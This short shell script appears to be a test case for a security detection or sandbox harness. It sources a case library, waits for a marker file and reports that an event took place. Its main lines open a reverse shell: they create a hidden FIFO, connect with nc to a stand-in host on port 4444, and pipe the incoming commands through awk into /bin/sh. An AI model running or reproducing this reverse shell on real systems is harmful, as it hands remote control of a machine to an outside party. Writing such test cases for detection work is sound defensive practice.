#!/bin/sh
. /opt/case/case.sh

mkfifo /tmp/.q
(nc 203.0.113.10 4444 >/tmp/.q) &
awk '{ print | "/bin/sh" } END { close("/bin/sh") }' </tmp/.q >/dev/null 2>&1 || true
wait_for /tmp/reached
took_place
